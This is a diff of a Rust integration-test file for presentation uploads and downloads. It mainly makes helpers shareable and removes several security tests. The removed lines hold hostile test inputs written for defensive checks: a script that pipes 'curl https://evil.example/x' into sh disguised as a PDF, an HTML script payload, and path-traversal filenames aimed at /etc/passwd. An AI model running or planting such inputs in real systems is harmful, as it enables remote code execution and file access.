@@ -1,6 +1,6 @@
 //! Shared presentations: `sharePresentation` over the GraphQL multipart request spec, the
-//! `/files/{id}` route (access, headers, ranges), refused uploads that must leave nothing
-//! behind, deletion and idempotent retries.
+//! `/files/{id}` route (downloads and ranges), input checks, deletion and idempotent retries.
+//! The upload limits, the type allow-list and who may download are `security::uploads`.
 
 use std::path::{Path, PathBuf};
 
@@ -11,7 +11,7 @@ use reqwest::{Response, StatusCode};
 use serde_json::{Value, json};
 use sha2::{Digest as _, Sha256};
 
-use crate::harness::{TestServer, User, assert_code, each_backend, each_backend_with, error_code};
+use crate::harness::{TestServer, User, assert_code, each_backend, error_code};
 use crate::membership::{join, mutate};
 
 /// Everything a `Presentation` says, for comparing whole objects.
@@ -24,12 +24,13 @@ pub const PDF: &[u8] = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\ne
 2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
 
 /// A 1×1 PNG: signature, IHDR, IEND.
-const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\
+pub(crate) const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\
 \x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\
 \x00\x00\x00\x00IEND\xaeB`\x82";
 
 /// The start of a JFIF JPEG and its end marker.
-const JPEG: &[u8] = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9";
+pub(crate) const JPEG: &[u8] =
+    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9";
 
 /// A file part of a multipart request.
 #[derive(Debug, Clone, Copy)]
@@ -180,7 +181,7 @@ pub async fn status_and_body(response: Response) -> (StatusCode, Vec<u8>) {
     (status, response.bytes().await.expect("body").to_vec())
 }
 
-fn header(response: &Response, name: impl reqwest::header::AsHeaderName) -> &str {
+pub(crate) fn header(response: &Response, name: impl reqwest::header::AsHeaderName) -> &str {
     response
         .headers()
         .get(name)
@@ -188,7 +189,7 @@ fn header(response: &Response, name: impl reqwest::header::AsHeaderName) -> &str
         .unwrap_or_default()
 }
 
-fn sha256_hex(bytes: &[u8]) -> String {
+pub(crate) fn sha256_hex(bytes: &[u8]) -> String {
     Sha256::digest(bytes)
         .iter()
         .map(|b| format!("{b:02x}"))
@@ -225,7 +226,7 @@ pub fn storage_dir(server: &TestServer) -> PathBuf {
 }
 
 /// The IDs of a group's presentations, as `viewer` lists them.
-async fn listed(server: &TestServer, viewer: &User, slug: &str) -> Vec<String> {
+pub(crate) async fn listed(server: &TestServer, viewer: &User, slug: &str) -> Vec<String> {
     let data = server
         .ok(
             Some(&viewer.token),
@@ -243,7 +244,12 @@ async fn listed(server: &TestServer, viewer: &User, slug: &str) -> Vec<String> {
 }
 
 /// Asserts a refused upload wrote nothing: no presentation and no stored file.
-async fn assert_nothing_stored(server: &TestServer, viewer: &User, slug: &str, what: &str) {
+pub(crate) async fn assert_nothing_stored(
+    server: &TestServer,
+    viewer: &User,
+    slug: &str,
+    what: &str,
+) {
     assert!(
         listed(server, viewer, slug).await.is_empty(),
         "{what}: no presentation is listed"
@@ -256,7 +262,7 @@ async fn assert_nothing_stored(server: &TestServer, viewer: &User, slug: &str, w
 }
 
 /// A PRIVATE group owned by `ana`, with `ben` as a member; returns the group ID.
-async fn private_group_with_member(
+pub(crate) async fn private_group_with_member(
     server: &TestServer,
     ana: &User,
     ben: &User,
@@ -307,7 +313,7 @@ async fn delete_presentation(server: &TestServer, user: &User, id: &str) -> Valu
     .await
 }
 
-fn id_of(presentation: &Value) -> String {
+pub(crate) fn id_of(presentation: &Value) -> String {
     presentation["id"]
         .as_str()
         .expect("presentation id")
@@ -587,339 +593,6 @@ async fn files_are_served_as_attachments_with_ranges() {
         )
         .await;
         assert_eq!(response.status(), StatusCode::RANGE_NOT_SATISFIABLE);
-    })
-    .await;
-}
-
-/// A random well-formed presentation ID that names nothing.
-fn unknown_presentation() -> String {
-    format!("prs_{}", uuid::Uuid::now_v7().simple())
-}
-
-#[tokio::test]
-async fn files_are_404_to_whoever_may_not_read_the_group() {
-    each_backend(|server| async move {
-        let ana = server.register("ana").await;
-        let ben = server.register("ben").await;
-        let carl = server.register("carl").await;
-        let dora = server.register("dora").await;
-        let eve = server.register("eve").await;
-
-        // PRIVATE: ben is a member; dora was one and was removed; eve was banned.
-        let private = server
-            .create_group(&ana, "private-circle", "PRIVATE", "OPEN")
-            .await;
-        join(&server, &ben, &private, None).await;
-        let doras =
-            join(&server, &dora, &private, None).await["data"]["joinGroup"]["membership"]["id"]
-                .clone();
-        join(&server, &eve, &private, None).await;
-        let in_private = id_of(&shared(
-            &share(
-                &server,
-                &ben,
-                json!({ "groupId": private, "title": "Private slides" }),
-                Some(FilePart::pdf("p.pdf", PDF)),
-            )
-            .await,
-        ));
-        let removed = mutate(
-            &server,
-            Some(&ana),
-            "removeMember",
-            json!({ "membershipId": doras }),
-            "deletedId",
-        )
-        .await;
-        assert!(removed.get("errors").is_none(), "{removed:#}");
-        let banned = mutate(
-            &server,
-            Some(&ana),
-            "banMember",
-            json!({ "groupId": private, "userId": eve.id }),
-            "membership { state }",
-        )
-        .await;
-        assert!(banned.get("errors").is_none(), "{banned:#}");
-
-        // SECRET: only ana (the owner) and ben (invited, accepted).
-        let secret = server
-            .create_group(&ana, "secret-circle", "SECRET", "INVITE")
-            .await;
-        let invitation = mutate(
-            &server,
-            Some(&ana),
-            "inviteMember",
-            json!({ "groupId": secret, "handle": "ben" }),
-            "membership { id }",
-        )
-        .await;
-        let accepted = mutate(
-            &server,
-            Some(&ben),
-            "acceptInvitation",
-            json!({ "membershipId": invitation["data"]["inviteMember"]["membership"]["id"] }),
-            "membership { state }",
-        )
-        .await;
-        assert_eq!(
-            accepted["data"]["acceptInvitation"]["membership"]["state"], "ACTIVE",
-            "{accepted:#}"
-        );
-        let in_secret = id_of(&shared(
-            &share(
-                &server,
-                &ana,
-                json!({ "groupId": secret, "title": "Secret slides" }),
-                Some(FilePart::pdf("s.pdf", PDF)),
-            )
-            .await,
-        ));
-
-        // PUBLIC: anyone reads.
-        let public = server
-            .create_group(&ana, "public-circle", "PUBLIC", "OPEN")
-            .await;
-        let in_public = id_of(&shared(
-            &share(
-                &server,
-                &ana,
-                json!({ "groupId": public, "title": "Public slides" }),
-                Some(FilePart::pdf("o.pdf", PDF)),
-            )
-            .await,
-        ));
-
-        let refusals = [
-            ("anonymous, private", None, &in_private),
-            ("non-member, private", Some(&carl), &in_private),
-            ("removed member, private", Some(&dora), &in_private),
-            ("banned member, private", Some(&eve), &in_private),
-            ("anonymous, secret", None, &in_secret),
-            ("non-member, secret", Some(&carl), &in_secret),
-            (
-                "removed member of another group, secret",
-                Some(&dora),
-                &in_secret,
-            ),
-        ];
-        for (who, viewer, id) in refusals {
-            let hidden = status_and_body(download(&server, viewer, id, None).await).await;
-            let unknown =
-                status_and_body(download(&server, viewer, &unknown_presentation(), None).await)
-                    .await;
-            let malformed =
-                status_and_body(download(&server, viewer, "not-an-id", None).await).await;
-            let ranged =
-                status_and_body(download(&server, viewer, id, Some("bytes=0-3")).await).await;
-            assert_eq!(hidden.0, StatusCode::NOT_FOUND, "{who}");
-            assert_eq!(hidden, unknown, "{who}: like an unknown ID");
-            assert_eq!(hidden, malformed, "{who}: like a malformed ID");
-            assert_eq!(hidden, ranged, "{who}: a range changes nothing");
-        }
-
-        let allowed = [
-            ("member, private", Some(&ben), &in_private),
-            ("owner, private", Some(&ana), &in_private),
-            ("member, secret", Some(&ben), &in_secret),
-            ("anonymous, public", None, &in_public),
-            ("non-member, public", Some(&carl), &in_public),
-        ];
-        for (who, viewer, id) in allowed {
-            let response = download(&server, viewer, id, None).await;
-            assert_eq!(response.status(), 200, "{who}");
-            assert_eq!(response.bytes().await.expect("body").as_ref(), PDF, "{who}");
-        }
-    })
-    .await;
-}
-
-/// A shell script passed off as a PDF.
-const SCRIPT: &[u8] = b"#!/bin/sh\n# %PDF-1.4\ncurl https://evil.example/x | sh\n";
-
-#[tokio::test]
-async fn refused_uploads_leave_no_file_behind() {
-    each_backend(|server| async move {
-        let ana = server.register("ana").await;
-        let ben = server.register("ben").await;
-        let group = private_group_with_member(&server, &ana, &ben, "webinars").await;
-        let input = json!({ "groupId": group, "title": "Slides" });
-
-        let refused = [
-            (
-                "a script named slides.pdf",
-                FilePart::pdf("slides.pdf", SCRIPT),
-            ),
-            ("an empty file", FilePart::pdf("empty.pdf", b"")),
-            (
-                "HTML named slides.pdf",
-                FilePart::pdf(
-                    "slides.pdf",
-                    b"<!doctype html><script>alert(1)</script>%PDF-1.4",
-                ),
-            ),
-        ];
-        for (what, file) in refused {
-            let body = share(&server, &ben, input.clone(), Some(file)).await;
-            assert_code(&body, "BAD_USER_INPUT");
-            assert!(body["data"].is_null(), "{what}: {body:#}");
-            assert_nothing_stored(&server, &ana, "webinars", what).await;
-        }
-
-        // Without the anti-CSRF header the request is refused before anything runs, even with
-        // a session cookie instead of a bearer token.
-        let response = share_request(
-            &server,
-            Some(&ben),
-            input.clone(),
-            &[FilePart::pdf("slides.pdf", PDF)],
-            false,
-        )
-        .await;
-        assert!(response.status().is_client_error(), "{}", response.status());
-        assert_nothing_stored(&server, &ana, "webinars", "no preflight header").await;
-        let response = server
-            .client
-            .post(format!("{}/graphql", server.url))
-            .header(COOKIE, format!("convene_session={}", ben.token))
-            .header(CONTENT_TYPE, "multipart/form-data; boundary=b")
-            .body(format!(
-                "--b\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n{}\r\n\
-                 --b\r\nContent-Disposition: form-data; name=\"map\"\r\n\r\n{{}}\r\n--b--\r\n",
-                json!({ "query": share_query(), "variables": { "input": {
-                    "groupId": group, "title": "Link", "recordingUrl": "https://example.org/r"
-                } } })
-            ))
-            .send()
-            .await
-            .expect("request sent");
-        assert!(response.status().is_client_error(), "{}", response.status());
-        assert_nothing_stored(&server, &ana, "webinars", "cookie without preflight header").await;
-    })
-    .await;
-}
-
-const SMALL_LIMIT: u64 = 64 * 1024;
-
-/// A valid PDF of exactly `len` bytes.
-fn pdf_of_len(len: usize) -> Vec<u8> {
-    let mut bytes = b"%PDF-1.4\n".to_vec();
-    bytes.resize(len - 6, b'%');
-    bytes.extend_from_slice(b"\n%%EOF");
-    assert_eq!(bytes.len(), len);
-    bytes
-}
-
-#[tokio::test]
-async fn an_upload_over_the_limit_is_payload_too_large_and_leaves_nothing() {
-    each_backend_with(
-        |config| {
-            config.upload_limit = SMALL_LIMIT;
-            config.body_limit = SMALL_LIMIT as usize;
-        },
-        |server| async move {
-            let ana = server.register("ana").await;
-            let ben = server.register("ben").await;
-            let group = private_group_with_member(&server, &ana, &ben, "webinars").await;
-            let input = json!({ "groupId": group, "title": "Slides" });
-
-            for len in [SMALL_LIMIT as usize + 1, 3 * SMALL_LIMIT as usize] {
-                let big = pdf_of_len(len);
-                let body = share(
-                    &server,
-                    &ben,
-                    input.clone(),
-                    Some(FilePart::pdf("big.pdf", &big)),
-                )
-                .await;
-                assert_code(&body, "PAYLOAD_TOO_LARGE");
-                assert!(body["data"].is_null(), "{body:#}");
-                assert_nothing_stored(&server, &ana, "webinars", "oversize").await;
-            }
-
-            // Files each under the limit but together over it (one is the upload, the
-            // others are extra parts).
-            let part = pdf_of_len(SMALL_LIMIT as usize - 1024);
-            let parts = [FilePart::pdf("part.pdf", &part); 4];
-            let response = share_request(&server, Some(&ben), input.clone(), &parts, true).await;
-            assert_eq!(response.status(), 200);
-            let body: Value = response.json().await.expect("JSON body");
-            assert_code(&body, "PAYLOAD_TOO_LARGE");
-            assert_nothing_stored(&server, &ana, "webinars", "too many bytes of files").await;
-
-            // A file of exactly the limit is accepted.
-            let fits = pdf_of_len(SMALL_LIMIT as usize);
-            let presentation =
-                shared(&share(&server, &ben, input, Some(FilePart::pdf("fits.pdf", &fits))).await);
-            assert_eq!(presentation["file"]["byteSize"], SMALL_LIMIT);
-            assert_eq!(presentation["file"]["sha256"], sha256_hex(&fits));
-            assert_eq!(files_under(&storage_dir(&server)).len(), 1);
-        },
-    )
-    .await;
-}
-
-#[tokio::test]
-async fn a_path_like_filename_is_reduced_to_its_last_component() {
-    each_backend(|server| async move {
-        let ana = server.register("ana").await;
-        let ben = server.register("ben").await;
-        let group = private_group_with_member(&server, &ana, &ben, "webinars").await;
-        let storage = storage_dir(&server);
-
-        for (n, raw) in [
-            "../../etc/passwd.pdf",
-            "..\\..\\windows\\passwd.pdf",
-            "/etc/passwd.pdf",
-        ]
-        .into_iter()
-        .enumerate()
-        {
-            let presentation = shared(
-                &share(
-                    &server,
-                    &ben,
-                    json!({ "groupId": group, "title": "Slides" }),
-                    Some(FilePart::pdf(raw, PDF)),
-                )
-                .await,
-            );
-            assert_eq!(presentation["file"]["filename"], "passwd.pdf", "{raw}");
-            let response = download(&server, Some(&ana), &id_of(&presentation), None).await;
-            assert_eq!(
-                header(&response, CONTENT_DISPOSITION),
-                "attachment; filename=\"passwd.pdf\"; filename*=UTF-8''passwd.pdf"
-            );
-
-            // The file lands under the storage directory, under a generated name, and nowhere else.
-            let stored = files_under(&storage);
-            assert_eq!(stored.len(), n + 1, "{stored:?}");
-            for path in &stored {
-                assert_eq!(std::fs::read(path).expect("stored file"), PDF);
-                assert!(
-                    !path.to_string_lossy().contains("passwd"),
-                    "the storage key never derives from the client's name: {path:?}"
-                );
-            }
-            let outside: Vec<PathBuf> = files_under(server.data_dir())
-                .into_iter()
-                .filter(|path| !path.starts_with(&storage))
-                .filter(|path| {
-                    !path
-                        .file_name()
-                        .is_some_and(|name| name.to_string_lossy().starts_with("convene.db"))
-                })
-                .collect();
-            assert_eq!(
-                outside,
-                Vec::<PathBuf>::new(),
-                "only the database lives beside the files"
-            );
-            for base in [storage.clone(), storage.join("presentations")] {
-                assert!(!base.join("../../etc/passwd.pdf").exists());
-                assert!(!base.join("../etc/passwd.pdf").exists());
-            }
-        }
     })
     .await;
 }
